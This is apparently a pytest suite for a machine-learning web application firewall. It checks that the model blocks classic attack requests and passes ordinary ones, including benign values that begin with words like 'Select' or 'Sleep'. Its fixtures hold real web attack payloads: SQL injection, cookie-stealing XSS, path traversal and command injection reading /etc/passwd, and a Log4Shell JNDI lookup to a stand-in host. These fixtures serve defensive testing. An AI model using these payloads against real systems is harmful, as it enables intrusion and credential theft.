"""The shipped model: blocks classic attacks, passes ordinary modern requests.

`WAF_TEST_MODEL=DIR` runs the same guard against a candidate model (a training trial)
before it replaces models/default.
"""

from __future__ import annotations

import os
from pathlib import Path

import pytest

from waf_proxy.inspect import RequestView

DEFAULT = Path(os.environ.get("WAF_TEST_MODEL") or Path(__file__).resolve().parents[2] / "models" / "default")
CHROME = "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/126.0.0.0 Safari/537.36"
FORM = "application/x-www-form-urlencoded"

ATTACKS = {
    "sqli-tautology": RequestView("GET", "/products", "id=1%27%20OR%20%271%27%3D%271%27%20--", (("user-agent", CHROME),)),
    "sqli-union": RequestView("GET", "/item", "id=1+UNION+SELECT+username,password+FROM+users--"),
    "sqli-form": RequestView("POST", "/login", "", (("content-type", FORM),), b"username=admin%27--&password=x"),
    "xss": RequestView("GET", "/search", "q=%3Cscript%3Ealert(document.cookie)%3C%2Fscript%3E", (("user-agent", CHROME),)),
    "xss-event": RequestView("POST", "/comments", "", (("content-type", "application/json"),),
                             b'{"text": "<img src=x onerror=alert(1)>"}'),
    "path-traversal": RequestView("GET", "/download", "file=..%2F..%2F..%2F..%2Fetc%2Fpasswd"),
    "cmd-injection": RequestView("GET", "/ping", "host=127.0.0.1%3Bcat%20%2Fetc%2Fpasswd"),
}

BENIGN = {
    "home": RequestView("GET", "/", "", (("user-agent", CHROME), ("cookie", "sessionid=8f3a9c2e71b64d0f; theme=dark"))),
    "json-api-get": RequestView("GET", "/api/v1/users/12345", "", (("user-agent", "okhttp/4.12.0"),)),
    "json-api-post": RequestView(
        "POST", "/api/v1/orders", "", (("user-agent", CHROME), ("content-type", "application/json")),
        b'{"items": [{"sku": "A-100", "qty": 2}], "note": "please leave it at the door", "total": 39.90}',
    ),
    "form-apostrophe": RequestView("POST", "/signup", "", (("user-agent", CHROME), ("content-type", FORM)),
                                   b"name=Conan+O%27Brien&email=conan%40example.com&city=Dublin"),
    "prose-sql-words": RequestView(
        "POST", "/api/v1/reviews", "", (("user-agent", CHROME), ("content-type", "application/json")),
        b'{"rating": 4, "text": "I had to select the larger size and drop the old one from my order. Great fit!"}',
    ),
    "search-select": RequestView("GET", "/search", "q=how+to+select+a+laptop&page=2", (("user-agent", CHROME),)),
}


@pytest.fixture(scope="module")
def scorer():
    if not (DEFAULT / "config.json").exists():
        pytest.skip("models/default is not trained yet")
    from waf_proxy.engine.artifacts import load_scorer

    return load_scorer(DEFAULT, threads=1)


def test_blocks_classic_attacks(scorer) -> None:
    results = scorer.score_batch(list(ATTACKS.values()))
    missed = {name: round(r.score, 4) for name, r in zip(ATTACKS, results) if r.score < scorer.threshold}
    assert not missed, f"missed at threshold {scorer.threshold:.4f}: {missed}"
    assert all(r.top_tokens for r in results)


def test_passes_realistic_benign_requests(scorer) -> None:
    results = scorer.score_batch(list(BENIGN.values()))
    flagged = {name: (round(r.score, 4), r.top_tokens) for name, r in zip(BENIGN, results) if r.score >= scorer.threshold}
    assert not flagged, f"flagged at threshold {scorer.threshold:.4f}: {flagged}"


# Short classic payloads in ordinary fields. A trial model trained with short benign
# values in the attack corpora's fields (corpus_twins) let most of these pass while its
# corpus figures barely moved: this guards against that kind of regression.
SHORT_PAYLOADS = ("127.0.0.1;cat /etc/passwd", "`id`", "admin'--", "../../etc/passwd", "{{7*7}}",
                  "${jndi:ldap://x.com/a}", "1; drop table users")


@pytest.mark.parametrize("path,field", [("/ping", "host"), ("/account", "username"), ("/files", "file")])
def test_blocks_short_classic_payloads_in_any_field(scorer, path: str, field: str) -> None:
    from urllib.parse import quote

    views = [RequestView("GET", path, f"{field}={quote(p)}") for p in SHORT_PAYLOADS]
    missed = {p: round(r.score, 3) for p, r in zip(SHORT_PAYLOADS, scorer.score_batch(views)) if r.score < scorer.threshold}
    assert not missed, f"{field}= missed at threshold {scorer.threshold:.3f}: {missed}"


# Titles and searches that open with a word attacks open with. The attack score is the
# maximum over the tokens of a causal model, so `sleep` after `title=` is judged before
# the model sees whether a call follows: trial 16 flagged a playlist titled "Sleep" (0.76)
# whatever came after it. Near-miss training twins fixed that; this keeps it fixed (trials
# 16 and 17, without them, fail it; 18 and 19, with them, pass; 20, with them, flags only
# `q=Select Comfort mattress`). Flagged by waf-default-6, and not the same
# weakness: a path-like value, `q=Etc / Misc` (0.88; waf-default-7: 0.23).
NEAR_MISSES = ("Sleep", "Sleep / Schlaf / 睡眠", "Union Station", "Select Comfort mattress", "Drop shipping guide",
               "cat food", "Benchmark results 2025", "Alert settings")


def test_passes_values_that_open_with_an_attack_word(scorer) -> None:
    import json
    from urllib.parse import quote

    json_headers = (("user-agent", CHROME), ("content-type", "application/json"))
    views = [RequestView("PUT", "/api/v3/playlists/pl_4Ke0HukU", "", json_headers,
                         json.dumps({"title": v, "public": True}, ensure_ascii=False).encode()) for v in NEAR_MISSES]
    views += [RequestView("GET", "/search", f"q={quote(v)}", (("user-agent", CHROME),)) for v in NEAR_MISSES]
    names = [f"json:{v}" for v in NEAR_MISSES] + [f"query:{v}" for v in NEAR_MISSES]
    flagged = {n: round(r.score, 3) for n, r in zip(names, scorer.score_batch(views)) if r.score >= scorer.threshold}
    assert not flagged, f"flagged at threshold {scorer.threshold:.3f}: {flagged}"
